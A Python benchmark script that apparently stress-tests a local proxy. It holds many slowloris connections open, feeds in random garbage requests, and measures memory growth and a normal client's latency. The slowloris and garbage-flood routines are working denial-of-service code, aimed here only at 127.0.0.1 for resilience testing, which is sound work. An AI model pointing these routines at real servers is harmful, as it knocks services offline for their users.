"""Slowloris plus garbage against one proxy while a normal client keeps asking.

Opens N connections (from 127.0.0.2 and up) that each send the start of a request head and
then one more header line every second; one client sends 512 random bytes and a blank
line, reads to the end, and does it again; a normal keep-alive client sends GETs one after
another for SECONDS. Prints one line: RSS before and at its peak (KiB), the growth per
slowloris connection (bytes), the normal client's requests, failures, and its p50, p99 and
slowest answer (ms), and the garbage client's rounds.

    python3 attack.py PID PORT N SECONDS
"""
import random
import resource
import socket
import sys
import threading
import time

pid, port, n, seconds = (int(a) for a in sys.argv[1:5])
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
GET = b"GET /size/16 HTTP/1.1\r\nHost: bench\r\n\r\n"
stop = threading.Event()


def rss_kib():
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    raise SystemExit("no VmRSS")


def response(s):
    """Reads one response with a Content-Length body: True when it was a 200 and the
    connection stays open, "closed" when it was a 200 that closes it (keepalive_requests),
    False on anything else."""
    got = b""
    while b"\r\n\r\n" not in got:
        chunk = s.recv(65536)
        if not chunk:
            return False
        got += chunk
    head, _, body = got.partition(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 200"):
        return False
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    while len(body) < length:
        chunk = s.recv(65536)
        if not chunk:
            return False
        body += chunk
    if b"\r\nconnection: close" in head.lower():
        return "closed"
    return True


def warm_up():
    for _ in range(50):
        s = socket.create_connection(("127.0.0.1", port))
        s.sendall(GET)
        response(s)
        s.close()


def slowloris(held):
    for i in range(n):
        s = socket.socket()
        s.bind(("127.0.%d.%d" % (2 + i // 250, 1 + i % 250), 0))
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET / HTTP/1.1\r\nHost: bench\r\n")
        held.append(s)
    line = 0
    while not stop.wait(1.0):
        line += 1
        for s in held:
            try:
                s.sendall(b"X-%d: a\r\n" % line)
            except OSError:
                pass


def garbage(rounds):
    rng = random.Random(7)
    while not stop.is_set():
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=5)
            s.sendall(bytes(rng.getrandbits(8) for _ in range(512)) + b"\r\n\r\n")
            while s.recv(65536):
                pass
            s.close()
        except OSError:
            pass
        rounds[0] += 1


warm_up()
time.sleep(0.5)
before = rss_kib()
held, rounds = [], [0]
threads = [
    threading.Thread(target=slowloris, args=(held,)),
    threading.Thread(target=garbage, args=(rounds,)),
]
for t in threads:
    t.start()
deadline = time.time() + 60
while len(held) < n and time.time() < deadline:
    time.sleep(0.1)
time.sleep(0.5)
peak = rss_kib()
latencies, failures = [], 0
client = socket.create_connection(("127.0.0.1", port), timeout=10)
end = time.time() + seconds
while time.time() < end:
    began = time.time()
    try:
        client.sendall(GET)
        ok = response(client)
    except OSError:
        ok = False
    if ok:
        latencies.append((time.time() - began) * 1000)
    if ok == "closed":
        client.close()
        client = socket.create_connection(("127.0.0.1", port), timeout=10)
    elif not ok:
        failures += 1
        client.close()
        client = socket.create_connection(("127.0.0.1", port), timeout=10)
    peak = max(peak, rss_kib())
stop.set()
for t in threads:
    t.join()
latencies.sort()
pick = lambda q: latencies[min(len(latencies) - 1, int(q * len(latencies)))] if latencies else 0
per = (peak - before) * 1024 / max(1, len(held))
print(
    f"{before} {peak} {per:.0f} {len(latencies)} {failures} "
    f"{pick(0.5):.2f} {pick(0.99):.2f} {latencies[-1] if latencies else 0:.2f} {rounds[0]}"
)
